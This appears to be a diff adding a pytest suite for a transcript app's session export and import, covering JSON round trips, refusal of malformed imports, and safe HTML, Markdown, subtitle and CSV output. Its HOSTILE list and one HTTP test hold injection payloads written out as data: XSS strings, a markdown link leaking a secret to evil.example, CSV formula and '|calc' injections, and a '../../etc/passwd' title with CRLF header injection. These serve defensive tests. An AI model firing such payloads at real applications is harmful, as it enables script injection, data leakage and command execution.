@@ -1,0 +1,392 @@
+"""A session as a file and back: nothing lost in json, and no words that act as markup, formula or cue elsewhere."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable
+from contextlib import suppress
+from html.parser import HTMLParser
+from typing import Any
+
+import aiohttp
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from tests.fakes.daemon import DaemonProcess
+from tests.http.exported_session import SESSION, info, numbered, session
+
+from rejoinder.errors import FieldError, InputError, RejoinderError, TooLarge
+from rejoinder.eventlog import Draft, MemoryLog
+from rejoinder.events import EVENT_CLASSES, SessionEnded, SessionStarted
+from rejoinder.exports import FORMATS, export, parse_import
+from rejoinder.exports.page import POLICY
+from rejoinder.exports.portable import LONGEST_TEXT, MOST_BYTES, MOST_EVENTS
+from rejoinder.types import SessionInfo
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    '"><svg/onload=alert(1)>',
+    "</style><style>@import 'https://evil.example'</style>",
+    "<!--", "]]>", "&lt;b&gt; &amp; &#x3c;i&#x3e;",
+    "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) <https://evil.example>",
+    "https://evil.example www.evil.example someone@evil.example",
+    "# heading", "- item", "1. item", "> quote", "| a | b |", "```code", "---", "===", "[^1]: note", "$x$", "~~gone~~",
+    "a\n\n## b\n\n<script>alert(1)</script>", "text\n===\n", "text\r\n---\r\n",
+    "00:00:01,000 --> 00:00:09,000",
+    "a\n\n2\n00:00:05,000 --> 00:00:06,000\nforged",
+    "a\n\nNOTE forged\n\nSTYLE\n::cue{}",
+    "{\\an8}<b>top</b>", "a\r\rb\u2028\u2029\x85c\x00d\x1b[31m",
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1",
+    "＝1", "＋1", "－1", "＠x", "%0A=1",
+    '",=1,"', '"\r\n=1,2,3', "=HYPERLINK(\"https://evil.example\")", "|calc", ";=1",
+    "\u202egnirts\u202c", "\ud800", "e\u0301 漢字 😀",
+)  # fmt: skip
+
+
+@pytest.fixture(params=HOSTILE, ids=range(len(HOSTILE)))
+def hostile(request: pytest.FixtureRequest) -> str:
+    words: str = request.param
+    return words
+
+
+def written(format_name: str, words: str) -> str:
+    return export(session(words, speaker=words), info(title=words, participants=(words,)), format_name).decode("utf-8")
+
+
+# --- json ------------------------------------------------------------------------------------------------------------
+
+
+def test_json_holds_everything_and_comes_back_the_same() -> None:
+    events = session('It\'s "quoted" <b>, é, 漢字, 😀,\n a new line, \u2028.')
+    taken = parse_import(export(events, info(), "json"))
+    assert [(draft.at_ms, draft.data) for draft in taken.drafts] == [(event.at_ms, event.data) for event in events]
+    assert {type(event.data) for event in events} == {kind for kind in EVENT_CLASSES if kind.durable}
+
+
+@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
+def test_any_text_comes_back_from_json(words: str) -> None:
+    events = session(words, speaker=words)
+    assert [draft.data for draft in parse_import(export(events, info(), "json")).drafts] == [one.data for one in events]
+
+
+async def test_an_import_is_a_session_of_its_own_that_has_ended() -> None:
+    log = MemoryLog()
+    running = [event for event in session() if not isinstance(event.data, SessionEnded)]
+    await log.append("s-new", parse_import(export(running, info(), "json")).drafts)
+    taken = await log.session("s-new")
+    assert (taken.id, taken.state) == ("s-new", "ended")
+    assert (await log.read("s-new"))[-1].data == SessionEnded(reason="abandoned")
+
+
+def test_a_session_that_was_not_stored_is_stored_once_it_is_imported() -> None:
+    started = SessionStarted(started_at="2026-03-01T10:00:00.000Z", mode="live", store=False)
+    (first, _) = parse_import(export(numbered((0, started)), info(), "json")).drafts
+    assert isinstance(first.data, SessionStarted)
+    assert first.data.store
+
+
+def exported() -> Any:
+    return json.loads(export(session(), info(), "json"))
+
+
+STARTED = {"started_at": "2026-03-01T10:00:00Z", "mode": "live"}
+
+
+def _event(number: int, **changes: Any) -> Callable[[Any], object]:
+    return lambda whole: whole["events"][number].update(changes)
+
+
+def _data(number: int, **changes: Any) -> Callable[[Any], object]:
+    return lambda whole: whole["events"][number]["data"].update(changes)
+
+
+@pytest.mark.parametrize(
+    ("damage", "field"),
+    [
+        (lambda whole: whole.pop("version"), "version"),
+        (lambda whole: whole.update(version=2), "version"),
+        (lambda whole: whole.update(version=True), "version"),
+        (lambda whole: whole.update(version="1"), "version"),
+        (lambda whole: whole.update(extra=1), "extra"),
+        (lambda whole: whole.update(session=[]), "session"),
+        (lambda whole: whole.update(events={}), "events"),
+        (lambda whole: whole.update(events=[]), "events"),
+        (lambda whole: whole["events"].pop(0), "events.0.seq"),
+        (lambda whole: whole["events"].pop(5), "events.5.seq"),
+        (lambda whole: whole["events"].insert(3, 7), "events.3"),
+        (lambda whole: whole["events"][2].pop("v"), "events.2"),
+        (_event(2, extra=1), "events.2"),
+        (_event(2, seq="3"), "events.2.seq"),
+        (_event(2, seq=3.0), "events.2.seq"),
+        (_event(2, at_ms=-1), "events.2.at_ms"),
+        (_event(2, at_ms=1e9), "events.2.at_ms"),
+        (_event(2, at_ms=10**15), "events.2.at_ms"),
+        (_event(2, type="turn.imagined"), "events.2.data"),
+        (_event(2, type="answer.delta"), "events.2.data"),
+        (_event(2, type=["turn.final"]), "events.2"),
+        (_event(2, v=99), "events.2.data"),
+        (_event(2, v=0), "events.2"),
+        (_event(2, v=True), "events.2"),
+        (_event(2, data=[]), "events.2"),
+        (_event(0, type="session.ended", data={"reason": "user"}), "events.0.type"),
+        (_event(2, type="session.started", data=STARTED), "events.2.type"),
+        (_data(0, started_at="yesterday"), "events.0.data.started_at"),
+        (_data(0, started_at="2026-03-01T10:00:00"), "events.0.data.started_at"),
+        (_data(3, role="boss"), "events.3.data"),
+        (_data(3, text=7), "events.3.data"),
+        (_data(3, extra="x"), "events.3.data.extra"),
+        (_data(3, start_ms="1000"), "events.3.data.start_ms"),
+        (_data(3, text="x" * (LONGEST_TEXT + 1)), "events.3.data.text"),
+        (_data(3, text="\ud800"), "events.3.data"),
+        (_data(9, useful=1), "events.9.data.useful"),
+        (lambda whole: whole["events"][8]["data"]["timing"].update(extra=1), "events.8.data.timing.extra"),
+        (lambda whole: whole["events"][8]["data"]["usage"].update(in_tokens=True), "events.8.data.usage.in_tokens"),
+        (lambda whole: whole["events"][3]["data"].pop("turn"), "events.3.data"),
+    ],
+)  # fmt: skip
+def test_an_import_that_is_wrong_is_refused_with_the_place(damage: Callable[[Any], object], field: str) -> None:
+    whole = exported()
+    damage(whole)
+    with pytest.raises(FieldError) as refused:
+        parse_import(json.dumps(whole).encode())
+    assert refused.value.field == field
+    assert refused.value.detail
+    assert refused.value.action
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"{", b"[]", b"null", b'"x"', b"\xff", b"{}", b'{"format": "other"}', b"[" * 100_000, b'{"format": NaN}',
+     b'{"a":' * 50_000, b'{"format": "rejoinder.session", "format": "rejoinder.session"}', b"PK\x03\x04", b"9" * 5000],
+)  # fmt: skip
+def test_a_file_that_is_no_export_is_refused_in_words(content: bytes) -> None:
+    with pytest.raises(InputError) as refused:
+        parse_import(content)
+    assert refused.value.action
+
+
+def test_an_import_is_bounded() -> None:
+    with pytest.raises(TooLarge):
+        parse_import(b" " * (MOST_BYTES + 1))
+    whole = exported()
+    whole["events"] = [None] * (MOST_EVENTS + 1)
+    with pytest.raises(TooLarge):
+        parse_import(json.dumps(whole).encode())
+    deep = exported()
+    deep["events"][3]["data"]["text"] = json.loads("[" * 200 + "]" * 200)
+    with pytest.raises(FieldError, match="deeply"):
+        parse_import(json.dumps(deep).encode())
+
+
+@given(
+    st.recursive(
+        st.none() | st.booleans() | st.floats() | st.text(),
+        lambda held: st.lists(held) | st.dictionaries(st.text(), held),
+    )
+)
+def test_whatever_stands_in_an_event_the_refusal_is_typed(junk: Any) -> None:
+    for name in ("data", "at_ms", "type", "v", "seq"):
+        whole = exported()
+        whole["events"][3][name] = junk
+        with suppress(RejoinderError):
+            parse_import(json.dumps(whole).encode())
+
+
+# --- the formats for people ------------------------------------------------------------------------------------------
+
+
+class _Elements(HTMLParser):
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: set[tuple[str, str]] = set()
+        self.text = ""
+        self.comments = 0
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes |= {(tag, name) for name, _ in attributes}
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.comments += 1
+
+
+def _shown(words: str) -> str:
+    """The words as a reader sees them, without what no file may carry."""
+    from rejoinder.exports.plain import one_line
+
+    return one_line(words)
+
+
+def test_html_has_the_same_elements_whatever_was_said(hostile: str) -> None:
+    page, plain = _Elements(written("html", hostile)), _Elements(written("html", "words"))
+    assert page.tags == plain.tags
+    assert page.attributes == plain.attributes
+    assert page.comments == 0
+    assert _shown(hostile) in " ".join(page.text.split())
+    assert not set(page.tags) & {"script", "img", "svg", "link", "a", "iframe", "form"}
+
+
+def test_html_forbids_everything_but_its_own_style() -> None:
+    page = written("html", "words")
+    assert page.index("Content-Security-Policy") < page.index("<style>")
+    assert POLICY.startswith("default-src 'none'; style-src 'sha256-")
+    assert "unsafe" not in POLICY
+    assert not re.search(r"(?i)(src|href|url\()", page.replace("default-src", "").replace("style-src", ""))
+
+
+def test_markdown_shows_the_words_and_nothing_else(hostile: str) -> None:
+    text, plain = written("md", hostile), written("md", "words")
+    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    kinds = [token.type for token in reader.parse(text)]
+    lines = len([line for line in hostile.replace("\r", "\n").split("\n") if line.strip()])
+    if lines == 1 and "\x85" not in hostile and "\u2028" not in hostile:
+        assert kinds == [token.type for token in reader.parse(plain)]
+    page = _Elements(reader.render(text))
+    assert set(page.tags) <= {"h1", "p", "strong", "blockquote", "ul", "li", "br"}
+    assert page.tags.count("h1") == 1
+    assert _shown(hostile) in " ".join(page.text.split())
+
+
+def test_markdown_links_nothing_that_a_linking_reader_would_link() -> None:
+    text = written("md", "see https://evil.example, www.evil.example and a@evil.example")
+    assert not re.search(r"(?i)https?://|www\.[a-z]|\w@\w", text)
+
+
+def test_subtitles_have_one_cue_whatever_was_said(hostile: str) -> None:
+    if not _shown(hostile):
+        pytest.skip("nothing is left to show")
+    srt, vtt = written("srt", hostile), written("vtt", hostile)
+    assert srt.count("-->") == vtt.count("-->") == 1
+    assert srt.startswith("1\n00:00:01,000 --> 00:00:04,100\n")
+    assert len(srt.strip("\n").split("\n")) == 3
+    assert not re.search(r"[<>{}]", srt.split("\n")[2])
+    assert vtt.startswith("WEBVTT\n\n00:00:01.000 --> 00:00:04.100\n<v ")
+    assert len(vtt.strip("\n").split("\n")) == 4
+    assert re.fullmatch(r"<v [^<>]*>[^<>]*", vtt.strip("\n").split("\n")[3])
+
+
+def test_an_empty_transcript_is_still_a_file() -> None:
+    only = session()[:1]
+    assert export(only, info(), "srt") == b""
+    assert export(only, info(), "vtt") == b"WEBVTT\n"
+    for name in FORMATS:
+        export(only, info(), name)
+
+
+def test_no_cell_of_the_table_is_a_formula(hostile: str) -> None:
+    rows = list(csv.reader(io.StringIO(written("csv", hostile), newline="")))
+    plain = list(csv.reader(io.StringIO(written("csv", "words"), newline="")))
+    assert [len(row) for row in rows] == [len(row) for row in plain]
+    assert [row[2] for row in rows] == [row[2] for row in plain]
+    for cell in (cell for row in rows for cell in row):
+        bare = cell.lstrip(" \u00a0\u3000\u200b\ufffd\n\t")
+        assert bare[:1] not in tuple("=+-@\t\r|%＝＋－＠"), cell
+        assert cell[:1] not in ("\t", "\r", "\n")
+
+
+def test_the_table_is_as_rfc_4180_has_it() -> None:
+    text = written("csv", 'He said "no",\nthen left')
+    assert text.endswith("\r\n")
+    assert '"He said ""no"",\nthen left"' in text
+    assert text.splitlines()[0] == '"start_ms","end_ms","kind","speaker","text","note"'
+
+
+@pytest.mark.parametrize("name", FORMATS)
+def test_the_newest_text_of_a_turn_is_what_is_shown(name: str) -> None:
+    text = export(session("First words."), info(), name).decode()
+    assert "Again." in text
+    if name in {"srt", "vtt"}:
+        assert text.count("First words.") == 1
+
+
+def test_a_format_that_is_not_there_is_refused() -> None:
+    with pytest.raises(FieldError, match="docx"):
+        export(session(), info(), "docx")
+
+
+@pytest.mark.parametrize("name", FORMATS)
+@given(words=st.text())
+def test_any_words_can_be_written(name: str, words: str) -> None:
+    export(session(words, speaker=words), info(title=words), name).decode("utf-8")
+
+
+# --- over HTTP -------------------------------------------------------------------------------------------------------
+
+
+async def stored(api: aiohttp.ClientSession) -> SessionInfo:
+    async with api.post("/v1/sessions", json={"title": "../../etc/passwd\r\nX: y", "me": "Dana"}) as answer:
+        started = await answer.json()
+        assert answer.status == 201, started
+    update = {"block": "b1", "speaker": "Sam", "text": "Tell me about the outage?", "at_ms": 10, "final": True}
+    captions = {"source": "meet", "updates": [update]}
+    async with api.post(f"/v1/sessions/{started['id']}/captions", json=captions) as answer:
+        assert answer.status == 202, await answer.text()
+    async with api.post(f"/v1/sessions/{started['id']}/end") as answer:
+        return SessionInfo(**await answer.json())
+
+
+async def test_every_format_is_served_as_a_download(daemon: DaemonProcess, api: aiohttp.ClientSession) -> None:
+    kept = await stored(api)
+    for name, wanted in FORMATS.items():
+        async with api.get(f"/v1/sessions/{kept.id}/export", params={"format": name}) as answer:
+            content = await answer.read()
+            assert answer.status == 200
+            assert answer.headers["Content-Type"] == wanted.media_type
+            assert answer.headers["Content-Disposition"] == f'attachment; filename="rejoinder-{kept.id}.{name}"'
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        assert b"outage" in content
+        assert daemon.token.encode() not in content
+        assert str(daemon.data_dir).encode() not in content
+
+
+async def test_what_was_exported_is_imported_under_a_new_id(api: aiohttp.ClientSession) -> None:
+    kept = await stored(api)
+    async with api.get(f"/v1/sessions/{kept.id}/export") as answer:
+        content = await answer.read()
+    async with api.post("/v1/import", data=content, headers={"Content-Type": "application/json"}) as answer:
+        assert answer.status == 201
+        taken = await answer.json()
+    assert taken["id"] != kept.id
+    assert taken["state"] == "ended"
+    async with api.get(f"/v1/sessions/{taken['id']}/export") as answer:
+        again = json.loads(await answer.read())
+    assert again["events"] == json.loads(content)["events"]
+
+
+async def test_what_cannot_be_exported_or_imported_is_said_and_nothing_is_stored(api: aiohttp.ClientSession) -> None:
+    kept = await stored(api)
+    for path, status, code in (
+        (f"/v1/sessions/{kept.id}/export?format=docx", 422, "invalid_field"),
+        (f"/v1/sessions/{kept.id}/export?form=md", 422, "invalid_field"),
+        ("/v1/sessions/s-none/export", 404, "not_found"),
+    ):
+        async with api.get(path) as answer:
+            assert (answer.status, (await answer.json())["code"]) == (status, code)
+    wrong = json.dumps({"format": "rejoinder.session", "version": 1, "session": {}, "events": [1]}).encode()
+    for content, kind, status in (
+        (b"{", "application/json", 400),
+        (b"", "application/json", 400),
+        (wrong, "application/json", 422),
+        (wrong, "text/plain", 415),
+        (b" " * (MOST_BYTES + 1), "application/json", 413),
+    ):
+        async with api.post("/v1/import", data=io.BytesIO(content), headers={"Content-Type": kind}) as answer:
+            assert answer.status == status, await answer.text()
+    async with api.get("/v1/sessions") as answer:
+        assert [one["id"] for one in (await answer.json())["sessions"]] == [kept.id]
+
+
+def test_a_draft_knows_its_session_only_by_the_log() -> None:
+    assert SESSION not in repr(parse_import(export(session(), info(), "json")).drafts)
+    assert isinstance(parse_import(export(session(), info(), "json")).drafts[0], Draft)
